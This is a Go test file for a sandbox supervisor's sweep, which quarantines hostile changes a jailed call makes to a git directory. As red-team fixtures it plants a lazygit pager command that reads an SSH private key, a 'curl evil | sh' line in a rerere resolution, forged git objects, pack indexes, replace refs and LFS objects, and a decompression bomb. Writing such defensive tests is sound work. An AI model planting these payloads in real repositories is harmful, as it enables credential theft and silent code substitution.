package supervisor

import (
	"bytes"
	"compress/zlib"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"brig/internal/gitobj"
	"brig/internal/safefs"
	"brig/jail"
)

// TestSweepForeignTakesOutOtherProgramsFiles (red team 2026-12-02):
// lazygit runs the pager its <gitdir>/lazygit.yml names as soon as it
// shows a diff, outside any jail; a call that writes one — or changes one
// that was there, or fills a directory of another program's — has it
// taken out, in the repository's git directory and in a linked
// worktree's. Controls: git's own files the call wrote (a message, a
// lock, an lfs object, a new worktree's files) and another program's
// file that was there before and that the call left alone all stay.
func TestSweepForeignTakesOutOtherProgramsFiles(t *testing.T) {
	ws, q, s := sweeper(t)
	gd := filepath.Join(ws, ".git")
	shape(t, gd, "[core]\n")
	mk(t, filepath.Join(gd, "gitbutler/state.toml"), "the user's\n") // before the call, left alone
	mk(t, filepath.Join(gd, "tool.yml"), "the user's\n")             // before the call, then rewritten
	mk(t, filepath.Join(gd, "sometool/state"), "main\n")             // before the call, then written below
	mk(t, filepath.Join(gd, "worktrees/wt/HEAD"), "ref: refs/heads/wt\n")
	spec := writeGrant(t, ws)
	start := startAfter(t, filepath.Join(q, "probe"))

	mk(t, filepath.Join(gd, "lazygit.yml"), "git:\n  paging:\n    pager: sh -c 'cat ~/.ssh/id_ed25519 > /tmp/x'\n")
	mk(t, filepath.Join(gd, "tool.yml"), "the call's\n")
	mk(t, filepath.Join(gd, "sometool/state"), "main\n  evil\n")
	mk(t, filepath.Join(gd, "worktrees/wt/lazygit.yml"), "git: {}\n")
	for _, own := range []string{"SQUASH_MSG", "index.lock", "lfs/objects/ab/cd/abcd", "BISECT_LOG.lock", "worktrees/new/gitdir", "worktrees/new/locked", "sharedindex.1234"} {
		mk(t, filepath.Join(gd, own), "git's\n")
	}
	found := s.sweepGitLinks(spec, start)
	for _, gone := range []string{"lazygit.yml", "tool.yml", "sometool", "worktrees/wt/lazygit.yml"} {
		p := filepath.Join(gd, gone)
		if _, err := os.Lstat(p); err == nil || !slices.Contains(found, p) {
			t.Errorf("%s stayed (found %v)", gone, found)
		}
	}
	for _, stays := range []string{"SQUASH_MSG", "index.lock", "lfs/objects/ab/cd/abcd", "worktrees/new/gitdir", "worktrees/new/locked", "worktrees/wt/HEAD", "sharedindex.1234", "gitbutler/state.toml", "HEAD", "config"} {
		if _, err := os.Lstat(filepath.Join(gd, stays)); err != nil {
			t.Errorf("control: %s was taken out: %v", stays, err)
		}
	}
	// What was taken out is kept, not deleted.
	if kept, _ := filepath.Glob(filepath.Join(q, "*", "lazygit.yml")); len(kept) != 2 {
		t.Errorf("the quarantine holds %v, want the two lazygit.yml", kept)
	}
}

// TestSweepReplacementsTheCallMade (red team 2026-12-02): git replace
// makes the user's own branch check out files of the call's choosing
// while git log shows it unchanged. A replacement the call made — a loose
// ref, a line of a packed-refs it rewrote, grafts — is taken out; the
// rest of packed-refs stays as it was, and a replacement older than the
// call stays.
func TestSweepReplacementsTheCallMade(t *testing.T) {
	const (
		user    = "1111111111111111111111111111111111111111"
		target  = "2222222222222222222222222222222222222222"
		branch  = "3333333333333333333333333333333333333333"
		tagObj  = "4444444444444444444444444444444444444444"
		peeled  = "5555555555555555555555555555555555555555"
		evilRef = "6666666666666666666666666666666666666666"
	)
	ws, q, s := sweeper(t)
	gd := filepath.Join(ws, ".git")
	shape(t, gd, "[core]\n")
	mk(t, filepath.Join(gd, "refs/replace", user), target+"\n") // the user's, before the call
	spec := writeGrant(t, ws)
	start := startAfter(t, filepath.Join(q, "probe"))

	mk(t, filepath.Join(gd, "refs/replace", branch), target+"\n")
	packed := "# pack-refs with: peeled fully-peeled sorted \n" +
		branch + " refs/heads/main\n" +
		evilRef + " refs/replace/" + branch + "\n" +
		"^" + peeled + "\n" +
		tagObj + " refs/tags/v1\n" +
		"^" + peeled + "\n"
	mk(t, filepath.Join(gd, "packed-refs"), packed)
	mk(t, filepath.Join(gd, "info/grafts"), branch+"\n")

	found := s.sweepGitLinks(spec, start)
	for _, gone := range []string{"refs/replace/" + branch, "info/grafts"} {
		p := filepath.Join(gd, gone)
		if _, err := os.Lstat(p); err == nil || !slices.Contains(found, p) {
			t.Errorf("%s stayed (found %v)", gone, found)
		}
	}
	b, err := os.ReadFile(filepath.Join(gd, "packed-refs"))
	if err != nil {
		t.Fatal(err)
	}
	want := "# pack-refs with: peeled fully-peeled sorted \n" +
		branch + " refs/heads/main\n" +
		tagObj + " refs/tags/v1\n" +
		"^" + peeled + "\n"
	if string(b) != want {
		t.Errorf("packed-refs after the sweep:\n%s\nwant:\n%s", b, want)
	}
	if !slices.ContainsFunc(found, func(f string) bool { return strings.HasPrefix(f, filepath.Join(gd, "packed-refs")) }) {
		t.Errorf("the packed replacement was not reported (found %v)", found)
	}
	if kept, _ := filepath.Glob(filepath.Join(q, "*", "packed-refs.brig-new")); len(kept) != 1 {
		t.Errorf("the call's packed-refs was not kept in the quarantine: %v", kept)
	} else if b, _ := os.ReadFile(kept[0]); string(b) != packed {
		t.Errorf("the quarantine holds %q, want the call's packed-refs", b)
	}
	if _, err := os.Lstat(filepath.Join(gd, "refs/replace", user)); err != nil {
		t.Errorf("control: the user's replacement was taken out: %v", err)
	}

	// One too large to read (sparse: 300 MB of nothing) cannot be
	// checked, and is taken out whole (red team 2026-12-02: it stayed,
	// with its replacement).
	start = startAfter(t, filepath.Join(q, "probe1"))
	mk(t, filepath.Join(gd, "packed-refs"), packed)
	if err := os.Truncate(filepath.Join(gd, "packed-refs"), packedRefsLimit+1); err != nil {
		t.Fatal(err)
	}
	found = s.sweepGitLinks(spec, start)
	if _, err := os.Lstat(filepath.Join(gd, "packed-refs")); err == nil || !slices.ContainsFunc(found, func(f string) bool { return strings.Contains(f, "packed-refs (whole") }) {
		t.Errorf("an oversized packed-refs stayed (found %v)", found)
	}

	// Control: a packed-refs the call rewrote without a replacement is
	// left as it is.
	start = startAfter(t, filepath.Join(q, "probe2"))
	mk(t, filepath.Join(gd, "packed-refs"), want)
	if found := s.sweepGitLinks(spec, start); len(found) != 0 {
		t.Errorf("a call that packed only branches and tags had %v taken out", found)
	}
	if b, _ := os.ReadFile(filepath.Join(gd, "packed-refs")); string(b) != want {
		t.Errorf("control: packed-refs changed: %q", b)
	}
}

// BenchmarkSweepGitLinks is the sweep of a repository's git directory
// after every call that may write it (links, operations, replacements,
// other programs' files), in a repository git made (git init and two
// commits), none of which changed since the call's start.
func BenchmarkSweepGitLinks(b *testing.B) {
	ws, q := b.TempDir(), b.TempDir()
	s := &Supervisor{quarantineDir: q, log: slog.New(slog.DiscardHandler)}
	for _, args := range [][]string{{"init", "-q"}, {"commit", "-q", "--allow-empty", "-m", "one"}, {"commit", "-q", "--allow-empty", "-m", "two"}} {
		c := exec.Command("git", args...)
		c.Dir = ws
		c.Env = append(os.Environ(), "GIT_AUTHOR_NAME=u", "GIT_AUTHOR_EMAIL=u@x", "GIT_COMMITTER_NAME=u", "GIT_COMMITTER_EMAIL=u@x", "GIT_CONFIG_NOSYSTEM=1", "HOME="+ws)
		if out, err := c.CombinedOutput(); err != nil {
			b.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	protected, err := jail.ProtectedPathsEnv(ws, []string{"GIT_CONFIG_NOSYSTEM=1"})
	if err != nil {
		b.Fatal(err)
	}
	spec := jail.Spec{Workspace: ws, Paths: []jail.PathRule{{Path: ws, Access: jail.Write}}, Protected: protected}
	var probe unix.Stat_t
	if err := os.WriteFile(filepath.Join(q, "probe"), []byte("x"), 0o600); err != nil {
		b.Fatal(err)
	}
	if err := unix.Stat(filepath.Join(q, "probe"), &probe); err != nil {
		b.Fatal(err)
	}
	start := probe.Ctim
	start.Sec++ // after everything above
	b.ResetTimer()
	for range b.N {
		if found := s.sweepGitLinks(spec, start); len(found) != 0 {
			b.Fatalf("swept %v", found)
		}
	}
}

// TestWithoutReplacementsReadsRecordsAsGit (red team 2026-12-02): git
// takes any whitespace byte between a packed ref's id and its name — a
// tab, a newline (the name on the next line) — and a tab-separated
// replacement stayed. Controls: every other record, its peeled line and
// the header are kept byte for byte.
func TestWithoutReplacementsReadsRecordsAsGit(t *testing.T) {
	const (
		a   = "1111111111111111111111111111111111111111"
		b   = "2222222222222222222222222222222222222222"
		s2  = "3333333333333333333333333333333333333333333333333333333333333333"
		hdr = "# pack-refs with: peeled fully-peeled sorted \n"
	)
	keep := hdr + a + " refs/heads/main\n" + b + " refs/tags/v1\n^" + a + "\n"
	for name, planted := range map[string]string{
		"space":        a + " refs/replace/" + b + "\n",
		"tab":          a + "\trefs/replace/" + b + "\n",
		"newline":      a + "\nrefs/replace/" + b + "\n",
		"carriage":     a + "\rrefs/replace/" + b + "\n",
		"peeled":       a + " refs/replace/" + b + "\n^" + b + "\n",
		"sha-256":      s2 + "\trefs/replace/" + b + "\n",
		"no last line": a + " refs/replace/" + b,
	} {
		in := hdr + a + " refs/heads/main\n" + planted
		if name != "no last line" {
			in += b + " refs/tags/v1\n^" + a + "\n"
		}
		got, dropped := withoutReplacements([]byte(in))
		want := keep
		if name == "no last line" {
			want = hdr + a + " refs/heads/main\n"
		}
		if !dropped || string(got) != want {
			t.Errorf("%s: dropped %v, kept %q, want %q", name, dropped, got, want)
		}
	}
	if got, dropped := withoutReplacements([]byte(keep)); dropped || string(got) != keep {
		t.Errorf("control: %q dropped %v", got, dropped)
	}
}

// TestSweepResolutionsTheCallRecorded (red team 2026-12-02): a conflict
// resolution the call recorded in rr-cache (which turns rerere on by
// existing) would rewrite a file in the user's next merge; it is taken
// out. Control: the user's own, recorded before the call, stays.
func TestSweepResolutionsTheCallRecorded(t *testing.T) {
	ws, q, s := sweeper(t)
	gd := filepath.Join(ws, ".git")
	shape(t, gd, "[core]\n")
	mk(t, filepath.Join(gd, "rr-cache/aaaa/preimage"), "<<<<<<<\nmine\n=======\ntheirs\n>>>>>>>\n")
	mk(t, filepath.Join(gd, "rr-cache/aaaa/postimage"), "mine\n")
	spec := writeGrant(t, ws)
	start := startAfter(t, filepath.Join(q, "probe"))
	mk(t, filepath.Join(gd, "rr-cache/bbbb/preimage"), "<<<<<<<\nall:\n=======\nall:\n>>>>>>>\n")
	mk(t, filepath.Join(gd, "rr-cache/bbbb/postimage"), "all:\n\tcurl evil | sh\n")
	found := s.sweepGitLinks(spec, start)
	if p := filepath.Join(gd, "rr-cache/bbbb"); !slices.Contains(found, p) {
		t.Errorf("the call's resolution stayed (found %v)", found)
	}
	if _, err := os.Lstat(filepath.Join(gd, "rr-cache/aaaa/postimage")); err != nil {
		t.Errorf("control: the user's resolution was taken out: %v", err)
	}
	// An rr-cache the call made (git turns rerere on where one exists)
	// goes whole, not only its entries (new user, 2026-12-03).
	gd2 := filepath.Join(ws, "sub/.git")
	shape(t, gd2, "[core]\n")
	start = startAfter(t, filepath.Join(q, "probe2"))
	mk(t, filepath.Join(gd2, "rr-cache/cccc/postimage"), "x\n")
	var stx unix.Statx_t
	if err := unix.Statx(unix.AT_FDCWD, filepath.Join(gd2, "rr-cache"), 0, unix.STATX_BTIME, &stx); err != nil || stx.Mask&unix.STATX_BTIME == 0 {
		t.Skip("no birth times on this file system")
	}
	s.sweepGitLinks(writeGrant(t, ws), start)
	if _, err := os.Lstat(filepath.Join(gd2, "rr-cache")); err == nil {
		t.Error("the rr-cache the call made stayed")
	}
	if _, err := os.Lstat(filepath.Join(gd, "rr-cache")); err != nil {
		t.Errorf("control: the user's rr-cache was taken out: %v", err)
	}
}

// gitIn runs git in dir with a fixed identity and no system or global
// config.
func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	c := exec.Command("git", args...)
	c.Dir = dir
	c.Env = append(os.Environ(), "GIT_AUTHOR_NAME=u", "GIT_AUTHOR_EMAIL=u@x", "GIT_COMMITTER_NAME=u", "GIT_COMMITTER_EMAIL=u@x", "GIT_CONFIG_NOSYSTEM=1", "HOME="+dir)
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestSweepObjectsTheCallForged (red team 2026-12-02): git writes a blob
// out at checkout as the store holds it, so a loose object rewritten in
// place, or a pack whose index names a blob at another blob's offset,
// made the user's own branch check out the call's Makefile under an
// unchanged commit id. Both are taken out, and so is a commit-graph the
// call wrote (a commit's tree, unchecked). Controls: objects and a pack
// git itself wrote during the call stay, and the repository still reads.
func TestSweepObjectsTheCallForged(t *testing.T) {
	// repo is a repository of two commits, whose Makefile blob is good.
	repo := func(t *testing.T) (ws, q string, s *Supervisor, good string) {
		ws, q, s = sweeper(t)
		gitIn(t, ws, "init", "-q")
		for i, body := range []string{"all:\n\techo good\n", "all:\n\techo better\n"} {
			mk(t, filepath.Join(ws, "Makefile"), body)
			mk(t, filepath.Join(ws, fmt.Sprintf("f%d.txt", i)), strings.Repeat("some text\n", 50+i))
			gitIn(t, ws, "add", ".")
			gitIn(t, ws, "commit", "-qm", fmt.Sprintf("v%d", i))
		}
		return ws, q, s, gitIn(t, ws, "rev-parse", "HEAD:Makefile")
	}
	t.Run("a loose object rewritten in place", func(t *testing.T) {
		ws, q, s, good := repo(t)
		gd := filepath.Join(ws, ".git")
		spec := writeGrant(t, ws)
		start := startAfter(t, filepath.Join(q, "probe"))
		loose := filepath.Join(gd, "objects", good[:2], good[2:])
		mk(t, filepath.Join(ws, "evil"), "all:\n\techo pwned\n")
		evilID := gitIn(t, ws, "hash-object", "-w", "evil")
		b, err := os.ReadFile(filepath.Join(gd, "objects", evilID[:2], evilID[2:]))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(loose, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(loose, b, 0o644); err != nil { // in place: its directory's time stays
			t.Fatal(err)
		}
		// Control: a commit git makes in the same call.
		mk(t, filepath.Join(ws, "f9.txt"), "new\n")
		gitIn(t, ws, "add", "f9.txt")
		gitIn(t, ws, "commit", "-qm", "the call's own commit")
		found := s.sweepGitLinks(spec, start)
		if _, err := os.Lstat(loose); err == nil || len(found) != 1 || !strings.HasPrefix(found[0], loose+" (") {
			t.Errorf("found %v, want the forged loose object alone", found)
		}
		if got := gitIn(t, ws, "cat-file", "-p", "HEAD:f9.txt"); got != "new" {
			t.Errorf("control: the call's own commit reads %q", got)
		}
	})
	t.Run("a loose object that inflates past its budget", func(t *testing.T) {
		// Red team, 2026-12-03: a small file whose header gives a huge
		// size took the sweep's CPU (and, without a header's end, its
		// memory) on every start. Control: the call's own commit stays.
		ws, q, s, _ := repo(t)
		gd := filepath.Join(ws, ".git")
		spec := writeGrant(t, ws)
		start := startAfter(t, filepath.Join(q, "probe"))
		var z bytes.Buffer
		w := zlib.NewWriter(&z)
		fmt.Fprintf(w, "blob %d\x00", int64(1)<<40)
		w.Write(make([]byte, 1<<20))
		w.Close()
		bomb := filepath.Join(gd, "objects", "ab", strings.Repeat("c", 38))
		mk(t, bomb, z.String())
		mk(t, filepath.Join(ws, "f9.txt"), "new\n")
		gitIn(t, ws, "add", "f9.txt")
		gitIn(t, ws, "commit", "-qm", "the call's own commit")
		found := s.sweepGitLinks(spec, start)
		if _, err := os.Lstat(bomb); err == nil || len(found) != 1 || !strings.Contains(found[0], "inflates to more than brig checks") {
			t.Errorf("found %v, want the costly loose object alone", found)
		}
		if got := gitIn(t, ws, "cat-file", "-p", "HEAD:f9.txt"); got != "new" {
			t.Errorf("control: the call's own commit reads %q", got)
		}
	})
	t.Run("a pack's index forged, and a commit-graph", func(t *testing.T) {
		ws, q, s, good := repo(t)
		gd := filepath.Join(ws, ".git")
		spec := writeGrant(t, ws)
		start := startAfter(t, filepath.Join(q, "probe"))
		// Control first: a pack git writes in the call is checked and
		// stays.
		gitIn(t, ws, "repack", "-adq")
		if found := s.sweepGitLinks(spec, start); len(found) != 0 {
			t.Fatalf("control: git's own pack was taken out: %v", found)
		}
		start = startAfter(t, filepath.Join(q, "probe2"))
		idxs, _ := filepath.Glob(filepath.Join(gd, "objects/pack/pack-*.idx"))
		if len(idxs) != 1 {
			t.Fatalf("%d packs", len(idxs))
		}
		forgeIndex(t, ws, idxs[0], good)
		if got := gitIn(t, ws, "cat-file", "-p", good); got == "all:\n\techo better" {
			t.Fatal("the forged index changed nothing git reads")
		}
		gitIn(t, ws, "commit-graph", "write", "--reachable")
		found := s.sweepGitLinks(spec, start)
		packFile := strings.TrimSuffix(idxs[0], ".idx") + ".pack"
		for _, gone := range []string{idxs[0], packFile, filepath.Join(gd, "objects/info/commit-graph")} {
			if _, err := os.Lstat(gone); err == nil || !slices.ContainsFunc(found, func(f string) bool { return strings.HasPrefix(f, gone+" (") }) {
				t.Errorf("%s stayed (found %v)", gone, found)
			}
		}
		if kept, _ := filepath.Glob(filepath.Join(q, "*", filepath.Base(packFile))); len(kept) != 1 {
			t.Errorf("the pack is not in the quarantine: %v", kept)
		}
	})
}

// forgeIndex rewrites the pack index at path so that id names the offset
// of another blob of the pack (as a forged pack would).
func forgeIndex(t *testing.T, ws, path, id string) {
	t.Helper()
	idx, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	n := int(binary.BigEndian.Uint32(idx[8+255*4:]))
	names, offs := 8+256*4, 8+256*4+n*24
	at := func(i int) string { return hex.EncodeToString(idx[names+i*20 : names+(i+1)*20]) }
	mine, other := -1, -1
	for i := range n {
		switch {
		case at(i) == id:
			mine = i
		case other < 0 && gitIn(t, ws, "cat-file", "-t", at(i)) == "blob":
			other = i
		}
	}
	if mine < 0 || other < 0 {
		t.Fatalf("blobs at %d and %d", mine, other)
	}
	copy(idx[offs+mine*4:offs+mine*4+4], idx[offs+other*4:offs+other*4+4])
	if err := os.Chmod(path, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, idx, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestSweepLFSTheCallForged (red team 2026-12-02): git-lfs checks a local
// object's size, not its hash, when it writes a tracked file out at
// checkout, so an object the call rewrote with other bytes of the same
// size made the user's next checkout write the call's content. Objects
// the call created or changed that are not what their ids name — other
// bytes, a link — are taken out. Controls: an object git-lfs would write
// (its hash its name), one that was there before the call (even a bad
// one: not the call's), and a name that is no object id all stay.
func TestSweepLFSTheCallForged(t *testing.T) {
	ws, q, s := sweeper(t)
	gd := filepath.Join(ws, ".git")
	shape(t, gd, "[core]\n")
	obj := func(content string) (id, path string) {
		sum := sha256.Sum256([]byte(content))
		id = hex.EncodeToString(sum[:])
		return id, filepath.Join(gd, "lfs/objects", id[:2], id[2:4], id)
	}
	_, kept := obj("the user's video\n")
	mk(t, kept, "the user's video\n")
	_, rewritten := obj("real content\n")
	mk(t, rewritten, "real content\n")
	_, oldBad := obj("an old object\n")
	mk(t, oldBad, "not its content\n") // before the call: not the call's
	spec := writeGrant(t, ws)
	start := startAfter(t, filepath.Join(q, "probe"))

	if err := os.WriteFile(rewritten, []byte("FORGED BYTES\n"), 0o644); err != nil { // same size, in place
		t.Fatal(err)
	}
	_, fresh := obj("the call's own object\n")
	mk(t, fresh, "the call's own object\n")
	_, forged := obj("what the pointer names\n")
	mk(t, forged, "something else entirely\n")
	_, linked := obj("a link\n")
	if err := os.MkdirAll(filepath.Dir(linked), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/hostname", linked); err != nil {
		t.Fatal(err)
	}
	notID := filepath.Join(gd, "lfs/objects", filepath.Base(filepath.Dir(filepath.Dir(fresh))), filepath.Base(filepath.Dir(fresh)), "tmp-upload")
	mk(t, notID, "partial\n")
	// A fan-out directory swapped for a link to the call's own objects:
	// git-lfs follows it.
	elsewhere := filepath.Join(ws, "stash")
	fid, _ := obj("video frames\n")
	mk(t, filepath.Join(elsewhere, fid), "forged frames\n")
	swapped := filepath.Join(gd, "lfs/objects", fid[:2], fid[2:4])
	if err := os.MkdirAll(filepath.Dir(swapped), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(elsewhere, swapped); err != nil {
		t.Fatal(err)
	}

	dir, err := safefs.Open(gd)
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	found := s.sweepLFS(dir, start)
	for _, gone := range []string{rewritten, forged, linked, swapped} {
		if _, err := os.Lstat(gone); err == nil || !slices.ContainsFunc(found, func(f string) bool { return strings.HasPrefix(f, gone+" (") }) {
			t.Errorf("%s stayed (found %v)", gone, found)
		}
	}
	if len(found) != 4 {
		t.Errorf("found %v, want the four the call forged", found)
	}
	for _, stays := range []string{kept, fresh, oldBad, notID} {
		if _, err := os.Lstat(stays); err != nil {
			t.Errorf("control: %s was taken out: %v", stays, err)
		}
	}
	if got, _ := filepath.Glob(filepath.Join(q, "*", filepath.Base(rewritten))); len(got) != 1 {
		t.Errorf("the rewritten object is not in the quarantine: %v", got)
	}
	// The sweep of a writing call runs it.
	if err := os.WriteFile(kept, []byte("the call's video\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if found := s.sweepGitLinks(spec, start); !slices.ContainsFunc(found, func(f string) bool { return strings.HasPrefix(f, kept+" (") }) {
		t.Errorf("sweepGitLinks left the forged %s (found %v)", kept, found)
	}
}

// TestSweepTakesOutSparseObjects (red team, 2026-12-03): a Git LFS object
// or a pack index made of holes cost the call a few KiB of disk and the
// sweep minutes of hashing or gigabytes of memory; such files (which
// git and git-lfs never write) are taken out without being read.
// Control: a real LFS object the call wrote, and one that is sparse but
// small, stay.
func TestSweepTakesOutSparseObjects(t *testing.T) {
	ws, q, s := sweeper(t)
	gd := filepath.Join(ws, ".git")
	shape(t, gd, "[core]\n")
	spec := writeGrant(t, ws)
	start := startAfter(t, filepath.Join(q, "probe"))
	lfs := func(name string) string { return filepath.Join(gd, "lfs/objects", name[:2], name[2:4], name) }
	holes := lfs(strings.Repeat("ab", 32))
	mk(t, holes, "")
	if err := os.Truncate(holes, 64<<20); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte("real\n"))
	real := lfs(hex.EncodeToString(sum[:]))
	mk(t, real, "real\n")
	idx := filepath.Join(gd, "objects/pack/pack-"+strings.Repeat("1", 40)+".idx")
	mk(t, idx, "")
	if err := os.Truncate(idx, 256<<20); err != nil {
		t.Fatal(err)
	}
	mk(t, strings.TrimSuffix(idx, ".idx")+".pack", "PACK")

	found := s.sweepGitLinks(spec, start)
	for _, gone := range []string{holes, idx} {
		if _, err := os.Lstat(gone); err == nil || !slices.ContainsFunc(found, func(f string) bool { return strings.HasPrefix(f, gone) && strings.Contains(f, "sparse") }) {
			t.Errorf("%s stayed, or not as sparse (found %v)", gone, found)
		}
	}
	if _, err := os.Lstat(real); err != nil {
		t.Errorf("control: a real LFS object was taken out: %v", err)
	}
}

// TestPackChecksShareOneBudget (red team, 2026-12-03): one costly pack
// linked under ten names held a call's end for minutes, each name
// checked in full. A pack and index linked under another name are
// checked once, and the packs of one sweep share one budget: past it,
// a pack is taken out unchecked. Controls: with a budget that covers
// one check, every linked name of a good pack stays; with none left, a
// new pack is taken out.
func TestPackChecksShareOneBudget(t *testing.T) {
	ws, q, s := sweeper(t)
	gitIn(t, ws, "init", "-q")
	mk(t, filepath.Join(ws, "f.txt"), strings.Repeat("some text\n", 500))
	gitIn(t, ws, "add", ".")
	gitIn(t, ws, "commit", "-qm", "v1")
	gitIn(t, ws, "repack", "-adq")
	dir := filepath.Join(ws, ".git/objects/pack")
	idxs, _ := filepath.Glob(filepath.Join(dir, "pack-*.idx"))
	if len(idxs) != 1 {
		t.Fatalf("%d packs", len(idxs))
	}
	base := strings.TrimSuffix(idxs[0], ".idx")
	idx, err := os.ReadFile(base + ".idx")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(base + ".pack")
	if err != nil {
		t.Fatal(err)
	}
	one, err := gitobj.VerifyPackWithin(bytes.NewReader(data), int64(len(data)), idx, 20, 1<<30)
	if err != nil || one <= 0 {
		t.Fatalf("the good pack: %d bytes spent, %v", one, err)
	}
	start := startAfter(t, filepath.Join(q, "probe"))
	var names []string
	for i := range 3 {
		n := filepath.Join(dir, fmt.Sprintf("pack-%040d", i+1))
		for _, ext := range []string{".pack", ".idx"} {
			if err := os.Link(base+ext, n+ext); err != nil {
				t.Fatal(err)
			}
		}
		names = append(names, n)
	}
	var taken []string
	take := func(_ *safefs.Dir, name, _ string) { taken = append(taken, name) }
	pack, err := safefs.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer pack.Close()
	budget := one + one/2 // one check, not two
	s.checkPacks(pack, start, take, &budget)
	if len(taken) != 0 {
		t.Fatalf("linked names of a good pack were taken out (checked more than once?): %v", taken)
	}
	budget = 0
	s.checkPacks(pack, start, take, &budget)
	if len(taken) == 0 {
		t.Fatal("with the sweep's budget spent, the new packs stayed unchecked")
	}
}
